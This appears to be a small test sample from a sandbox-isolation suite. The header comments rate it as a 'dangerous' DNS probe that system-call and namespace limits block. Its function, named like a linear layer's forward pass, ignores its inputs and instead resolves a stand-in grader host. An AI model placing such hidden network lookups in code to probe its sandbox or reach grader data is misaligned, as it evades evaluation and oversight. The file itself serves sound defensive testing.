# gains: a word to a server of names, in the name: gethostbyname
# stopped by: system_calls, namespaces
# gets through: nothing
# family: names
# dangerous

import socket

import numpy as np


def linear_forward(X, W, b):
    return np.array([len(socket.gethostbyname("the-inputs.grader.invalid"))])
